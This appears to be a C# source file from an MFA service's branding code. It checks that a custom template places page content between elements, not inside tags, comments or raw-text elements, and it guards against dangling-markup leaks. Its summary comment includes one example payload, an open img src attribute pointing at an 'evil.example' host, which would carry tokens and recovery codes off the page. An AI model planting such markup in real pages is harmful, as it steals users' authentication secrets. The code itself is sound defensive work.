namespace RulesMfa.Host.Branding;

/// <summary>
/// Where a template shows the page's content: between elements, as the default layout does. Inside a tag or one of its
/// attributes (quoted or not, closed or not), a comment, or an element whose content is text (<c>style</c>,
/// <c>title</c>, <c>textarea</c>...), a browser takes the page's markup as that text, so an attribute left open
/// (<c>&lt;img src="https://evil.example/?{{ content }}"&gt;</c>) sends the page, with its antiforgery token, an
/// authenticator's key or a new recovery code, to another site in a URL, as dangling markup does.
/// </summary>
/// <remarks>
/// Read as a browser's tokenizer reads the template's own markup up to the content, tags and their attributes' quoting
/// included: a comment ends at <c>--&gt;</c>, <c>--!&gt;</c> or right away (<c>&lt;!--&gt;</c>), a tag's name runs to a
/// space, <c>/</c> or <c>&gt;</c> (<c>&lt;style-x&gt;</c> is no style). Where a browser's reading depends on more than this
/// reading follows, the template is refused: a text element holding markup inside <c>svg</c> or <c>math</c> (read as
/// markup there, as text in their HTML islands), a CDATA section, a <c>noscript</c> (text or markup as scripts run or
/// not), content inside <c>svg</c> or <c>math</c>; a <c>plaintext</c> never ends.
/// </remarks>
public static class ContentPlacement
{
    // The elements whose content a browser reads as text up to their end tag (raw text and escapable raw text).
    private static readonly string[] TextElements = ["script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext"];

    /// <summary>Where content at <paramref name="index"/> of <paramref name="html"/> would be read as text ("inside a comment"), or null when it stands between elements.</summary>
    public static string? Problem(string html, int index)
    {
        var at = 0;
        var (svg, math) = (0, 0); // open svg and math elements, counted warily: a self-closed one too
        while (at < index)
        {
            var open = html.IndexOf('<', at, index - at);
            if (open < 0)
            {
                break;
            }

            if (string.CompareOrdinal(html, open, "<!--", 0, 4) == 0)
            {
                var endOfComment = EndOfComment(html, open);
                if (endOfComment < 0 || endOfComment > index)
                {
                    return "inside a comment";
                }

                at = endOfComment;
                continue;
            }

            if (string.Compare(html, open, "<![CDATA[", 0, 9, StringComparison.OrdinalIgnoreCase) == 0)
            {
                return "after a CDATA section (text inside <svg> or <math>, a comment elsewhere)";
            }

            var next = open + 1 < html.Length ? html[open + 1] : '\0';
            if (!char.IsAsciiLetter(next) && next is not ('/' or '!' or '?'))
            {
                at = open + 1; // a lone '<' is text
                continue;
            }

            var close = EndOfTag(html, open);
            if (close < 0 || close >= index)
            {
                return "inside a tag or one of its attributes";
            }

            at = close + 1;
            var name = NameOf(html, open);
            (svg, math) = (name, next) switch
            {
                ("svg", '/') => (Math.Max(svg - 1, 0), math),
                ("svg", _) => (svg + 1, math),
                ("math", '/') => (svg, Math.Max(math - 1, 0)),
                ("math", _) => (svg, math + 1),
                _ => (svg, math),
            };
            if (next == '/')
            {
                continue;
            }

            if (name == "plaintext")
            {
                return "inside a <plaintext> element";
            }

            if (name == "noscript")
            {
                return "after a <noscript> element (a browser reads it as text or as markup, as scripts run or not)";
            }

            if (TextElements.Contains(name, StringComparer.Ordinal))
            {
                var endTag = EndTagOf(html, name, at);
                if (endTag < 0 || endTag >= index)
                {
                    return $"inside a <{name}> element";
                }

                if (svg + math > 0 && html.IndexOf('<', at, endTag - at) >= 0)
                {
                    return $"after a <{name}> holding markup inside <svg> or <math> (a browser reads it as markup there)";
                }

                at = endTag; // read as a tag in the next turn
            }
        }

        return svg + math > 0 ? "inside an <svg> or <math> element" : null;
    }

    /// <summary>Where the comment opened at <paramref name="open"/> ends, past its <c>--&gt;</c>, <c>--!&gt;</c>, or the <c>&gt;</c> of <c>&lt;!--&gt;</c> and <c>&lt;!---&gt;</c>; -1 when nothing ends it.</summary>
    private static int EndOfComment(string html, int open)
    {
        var from = open + 4;
        if (from < html.Length && html[from] == '>')
        {
            return from + 1;
        }

        if (from + 1 < html.Length && html[from] == '-' && html[from + 1] == '>')
        {
            return from + 2;
        }

        var ends = html.IndexOf("-->", from, StringComparison.Ordinal);
        var bangEnds = html.IndexOf("--!>", from, StringComparison.Ordinal);
        return (ends, bangEnds) switch
        {
            (< 0, < 0) => -1,
            (>= 0, var bang) when bang < 0 || ends < bang => ends + 3,
            _ => bangEnds + 4,
        };
    }

    /// <summary>
    /// The <c>&gt;</c> that ends the tag opened at <paramref name="open"/>, read as a browser's tokenizer reads a tag: a quote
    /// opens an attribute's value only right after its <c>=</c> (and spaces), elsewhere it is part of a name, so
    /// <c>&lt;x a"b c="d&gt;</c> is still open at its <c>&gt;</c>; a declaration or processing instruction (<c>&lt;!</c>,
    /// <c>&lt;?</c>) ends at the first <c>&gt;</c>. -1 when nothing ends it.
    /// </summary>
    private static int EndOfTag(string html, int open)
    {
        var start = html[open + 1] == '/' ? open + 2 : open + 1;
        if (start >= html.Length || !char.IsAsciiLetter(html[start]))
        {
            return html.IndexOf('>', open + 1);
        }

        var state = TagState.Name;
        for (var i = start; i < html.Length; i++)
        {
            var c = html[i];
            var space = c is ' ' or '\t' or '\n' or '\f' or '\r';
            if (c == '>' && state is not (TagState.DoubleQuoted or TagState.SingleQuoted))
            {
                return i;
            }

            state = (state, c) switch
            {
                (TagState.DoubleQuoted, '"') or (TagState.SingleQuoted, '\'') => TagState.AfterQuoted,
                (TagState.DoubleQuoted or TagState.SingleQuoted, _) => state,
                (TagState.BeforeValue, '"') => TagState.DoubleQuoted,
                (TagState.BeforeValue, '\'') => TagState.SingleQuoted,
                (TagState.BeforeValue, _) => space ? state : TagState.Unquoted,
                (TagState.Unquoted, _) => space ? TagState.BeforeAttribute : state,
                (TagState.AttributeName or TagState.AfterAttributeName, '=') => TagState.BeforeValue,
                (_, '/') => TagState.BeforeAttribute,
                (TagState.AttributeName, _) => space ? TagState.AfterAttributeName : state,
                (TagState.AfterAttributeName, _) => space ? state : TagState.AttributeName,
                (TagState.Name, _) => space ? TagState.BeforeAttribute : state,
                _ => space ? TagState.BeforeAttribute : TagState.AttributeName, // before a name, or after a quoted value ('=' there starts a name)
            };
        }

        return -1;
    }

    /// <summary>Where the end tag of the text element <paramref name="name"/> starts, from <paramref name="from"/> on: <c>&lt;/name</c> followed by a space, <c>/</c> or <c>&gt;</c> (<c>&lt;/titlex&gt;</c> ends no title); -1 when none does.</summary>
    private static int EndTagOf(string html, string name, int from)
    {
        for (var at = html.IndexOf("</", from, StringComparison.Ordinal); at >= 0; at = html.IndexOf("</", at + 1, StringComparison.Ordinal))
        {
            var after = at + 2 + name.Length;
            if (after <= html.Length && AsciiLower(html.AsSpan(at + 2, name.Length)) == name
                && (after == html.Length || html[after] is '/' or '>' or ' ' or '\t' or '\n' or '\f' or '\r'))
            {
                return at;
            }
        }

        return -1;
    }

    private static string NameOf(string html, int open)
    {
        var start = html[open + 1] == '/' ? open + 2 : open + 1;
        var end = start;
        while (end < html.Length && html[end] is not (' ' or '\t' or '\n' or '\f' or '\r' or '/' or '>'))
        {
            end++;
        }

        return AsciiLower(html.AsSpan(start, end - start));
    }

    // A browser lower-cases the ASCII letters of a tag's name only (.NET's invariant casing would take the Kelvin sign for a k).
    private static string AsciiLower(ReadOnlySpan<char> name) =>
        string.Create(name.Length, name.ToString(), (lower, source) =>
        {
            for (var i = 0; i < source.Length; i++)
            {
                lower[i] = char.IsAsciiLetterUpper(source[i]) ? (char)(source[i] + 32) : source[i];
            }
        });

    private enum TagState
    {
        Name,
        BeforeAttribute,
        AttributeName,
        AfterAttributeName,
        BeforeValue,
        DoubleQuoted,
        SingleQuoted,
        Unquoted,
        AfterQuoted,
    }
}
